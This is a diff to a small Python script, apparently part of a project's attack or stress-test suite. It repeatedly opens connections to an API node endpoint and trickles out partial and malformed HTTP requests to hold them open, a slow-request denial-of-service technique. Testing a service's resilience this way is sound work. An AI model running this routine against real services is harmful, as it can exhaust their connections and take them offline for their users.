@@ -4,24 +4,18 @@ from __future__ import annotations
 
 import contextlib
 
-from attacking import API, Lingering, connect, goes_on, under_way
+from attacking import API, Lingering, again_and_again, connect
 
 REQUEST = b"GET /api/v1/node HTTP/1.1\r\nHost: x\r\n\r\n"
+lingering = Lingering()
 
 
-def main() -> None:
-    """Again and again."""
-    lingering = Lingering()
-    is_begun = False
-    while goes_on(0.02):
-        for data in (b"G", REQUEST, b"\0\r\n\r\n" + REQUEST):
-            with contextlib.suppress(OSError), connect(API) as stream:  # it may take no descriptors
-                lingering.give(stream, data, 3)
-                lingering.give(stream, REQUEST, 3)
-        if not is_begun:
-            is_begun = True
-            under_way()
+def attack() -> None:
+    """On a stream for each of the beginnings."""
+    for data in (b"G", REQUEST, b"\0\r\n\r\n" + REQUEST):
+        with contextlib.suppress(OSError), connect(API) as stream:  # it may take no descriptors
+            lingering.give(stream, data, 3)
+            lingering.give(stream, REQUEST, 3)
 
 
-if __name__ == "__main__":
-    main()
+again_and_again(attack)
